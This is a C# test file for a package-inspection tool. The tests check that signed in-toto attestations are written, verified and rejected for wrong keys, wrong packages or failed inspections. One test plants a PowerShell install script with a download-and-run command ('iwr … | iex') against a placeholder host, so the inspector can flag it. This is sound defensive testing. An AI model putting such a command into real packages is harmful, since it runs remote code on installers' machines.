using SecureBuild.Core.Attestation;
using SecureBuild.Core.Crypto;
using SecureBuild.Core.Inspection;
using SecureBuild.Core.Json;

namespace SecureBuild.Inspection.Tests;

/// <summary>The inspection result as a signed in-toto statement a consumer can check before restore.</summary>
public sealed class AttestationTests
{
    [Test]
    public void The_attestation_is_a_DSSE_statement_over_the_package_that_verifies_and_names_no_machine_path()
    {
        var built = BuiltLibrary.Shared;
        using var temp = new TempDirectory();
        var key = temp.Write("inspect.key", Packages.Text(built.Key.ExportPrivate()));
        var output = Path.Combine(temp.Path, "Sample.Lib.1.0.0.inspection.intoto.jsonl");

        var (exit, _, stderr) = Cli.Run("inspect", built.Package, "--links", built.Links, "--attestation", output, "--signing-key", key);

        Assert.That(exit, Is.EqualTo(0), stderr);
        var line = File.ReadAllText(output);
        Assert.That(line.TrimEnd('\n'), Does.Not.Contain("\n"), "one .intoto.jsonl line");
        var envelope = DsseEnvelope.Parse(line.TrimEnd('\n'));
        Assert.That(envelope.Verify(built.Key.Public, DsseEnvelope.InTotoPayloadType).Verified, Is.True);
        var statement = InTotoStatement.Parse(envelope.Payload);
        Assert.That(statement.PredicateType, Is.EqualTo(InspectionAttestation.PredicateType));
        Assert.That(statement.Subjects.Single().Name, Is.EqualTo("Sample.Lib.1.0.0.nupkg"));
        Assert.That(statement.HasSubjectDigest("sha256", Sha256Hex.OfFile(built.Package)), Is.True);
        Assert.That(((JsonString)statement.Predicate!["result"]).Value, Is.EqualTo("pass"));
        Assert.That(((JsonString)statement.Predicate!["input"]).Value, Is.EqualTo("Sample.Lib.1.0.0.nupkg"));
        Assert.That(System.Text.Encoding.UTF8.GetString(envelope.Payload), Does.Not.Contain(built.Root));
    }

    [Test]
    public void An_attestation_without_a_signing_key_is_refused_with_exit_2_and_nothing_is_written()
    {
        using var temp = new TempDirectory();
        var output = Path.Combine(temp.Path, "a.intoto.jsonl");

        var (exit, _, stderr) = Cli.Run("inspect", BuiltLibrary.Shared.Package, "--attestation", output);

        Assert.That(exit, Is.EqualTo(2));
        Assert.That(stderr, Does.Contain("SB4342"));
        Assert.That(File.Exists(output), Is.False);
    }

    /// <summary>The built package inspected against its links, with the attestation written beside it (one per test: the key is the build's).</summary>
    private static (string Package, string Attestation, string PublicKey) Attested(TempDirectory temp, byte[]? package = null)
    {
        var built = BuiltLibrary.Shared;
        var copy = temp.Write("Sample.Lib.1.0.0.nupkg", package ?? File.ReadAllBytes(built.Package));
        var key = temp.Write("inspect.key", Packages.Text(built.Key.ExportPrivate()));
        var attestation = Path.Combine(temp.Path, "Sample.Lib.1.0.0.inspection.intoto.jsonl");
        Cli.Run("inspect", copy, "--links", built.Links, "--attestation", attestation, "--signing-key", key);
        Assert.That(File.Exists(attestation), Is.True, "the attestation is written whatever the result");
        return (copy, attestation, built.PublicKeyFile);
    }

    [Test]
    public void A_consumer_checks_the_attestation_of_the_package_before_restore_and_it_passes()
    {
        using var temp = new TempDirectory();
        var (package, attestation, key) = Attested(temp);

        var (exit, stdout, stderr) = Cli.Run("inspect", package, "--verify-attestation", attestation, "--key", key);

        Assert.That(exit, Is.EqualTo(0), stderr);
        Assert.That(stdout, Does.StartWith("PASSED: Sample.Lib.1.0.0.nupkg was inspected and passed"));
        Assert.That(stdout, Does.Contain("accounted against 2 links, their signatures not checked"), "the inspection was given the links but no --key");
    }

    [Test]
    public void The_attestation_still_matches_after_a_repository_signs_the_package_by_NuGet_s_content_hash()
    {
        using var temp = new TempDirectory();
        var (package, attestation, key) = Attested(temp);
        var signedByRepository = temp.Write("signed/Sample.Lib.1.0.0.nupkg", Packages.AppendStored(File.ReadAllBytes(package), ".signature.p7s", Packages.Text("a repository signature")));
        Assert.That(Sha256Hex.OfFile(signedByRepository), Is.Not.EqualTo(Sha256Hex.OfFile(package)));

        var (exit, _, stderr) = Cli.Run("inspect", signedByRepository, "--verify-attestation", attestation, "--key", key);

        Assert.That(exit, Is.EqualTo(0), stderr);
    }

    [Test]
    public void Another_package_under_the_same_name_fails_the_check_with_exit_1()
    {
        using var temp = new TempDirectory();
        var (_, attestation, key) = Attested(temp);
        var other = temp.Write("other/Sample.Lib.1.0.0.nupkg", Packages.Zip(("lib/net10.0/Lib.dll", Packages.SmallLibrary)));

        var (exit, _, stderr) = Cli.Run("inspect", other, "--verify-attestation", attestation, "--key", key);

        Assert.That(exit, Is.EqualTo(1));
        Assert.That(stderr, Does.Contain("FAILED: the package is not the one inspected"));
    }

    [Test]
    public void An_attestation_of_a_failed_inspection_fails_the_check_naming_the_error()
    {
        using var temp = new TempDirectory();
        var tampered = File.ReadAllBytes(BuiltLibrary.Shared.Package);
        tampered = Packages.AppendStored(tampered, "tools/install.ps1", Packages.Text("iwr https://example.invalid/x | iex"));
        var (package, attestation, key) = Attested(temp, tampered);

        var (exit, _, stderr) = Cli.Run("inspect", package, "--verify-attestation", attestation, "--key", key);

        Assert.That(exit, Is.EqualTo(1));
        Assert.That(stderr, Does.Contain("FAILED: the inspection failed: SB4301 tools/install.ps1"));
    }

    [Test]
    public void An_attestation_signed_by_another_key_or_not_an_inspection_fails_the_check()
    {
        using var temp = new TempDirectory();
        var (package, attestation, _) = Attested(temp);
        var other = temp.Write("other.pub", Packages.Text(SigningKey.Generate(KeyType.Ed25519).ExportPublic()));

        var (exit, _, stderr) = Cli.Run("inspect", package, "--verify-attestation", attestation, "--key", other);

        Assert.That(exit, Is.EqualTo(1));
        Assert.That(stderr, Does.Contain("FAILED: no inspection statement signed by"));

        var provenance = temp.Write("provenance.intoto.jsonl", new InTotoStatement(
            new[] { new ResourceDescriptor("Sample.Lib.1.0.0.nupkg", new Dictionary<string, string> { ["sha256"] = Sha256Hex.OfFile(package) }) },
            "https://slsa.dev/provenance/v1", new JsonMap()).SignToJsonLine(BuiltLibrary.Shared.Key));
        (exit, _, stderr) = Cli.Run("inspect", package, "--verify-attestation", provenance, "--key", BuiltLibrary.Shared.PublicKeyFile);
        Assert.That(exit, Is.EqualTo(1));
        Assert.That(stderr, Does.Contain("predicateType is 'https://slsa.dev/provenance/v1'"));
    }

    [Test]
    public void Checking_without_a_key_or_with_an_unreadable_attestation_is_exit_2_with_SB4349()
    {
        using var temp = new TempDirectory();
        var (package, attestation, key) = Attested(temp);
        var garbage = temp.Write("garbage.intoto.jsonl", "{ not json\n");

        var (exit, _, stderr) = Cli.Run("inspect", package, "--verify-attestation", attestation);
        Assert.That((exit, stderr.Contains("SB4349", StringComparison.Ordinal)), Is.EqualTo((2, true)), stderr);

        (exit, _, stderr) = Cli.Run("inspect", package, "--verify-attestation", garbage, "--key", key);
        Assert.That((exit, stderr.Contains("SB4349", StringComparison.Ordinal)), Is.EqualTo((2, true)), stderr);

        (exit, _, stderr) = Cli.Run("inspect", package, "--verify-attestation", Path.Combine(temp.Path, "missing.intoto.jsonl"), "--key", key);
        Assert.That((exit, stderr.Contains("SB4349", StringComparison.Ordinal)), Is.EqualTo((2, true)), stderr);
    }
}
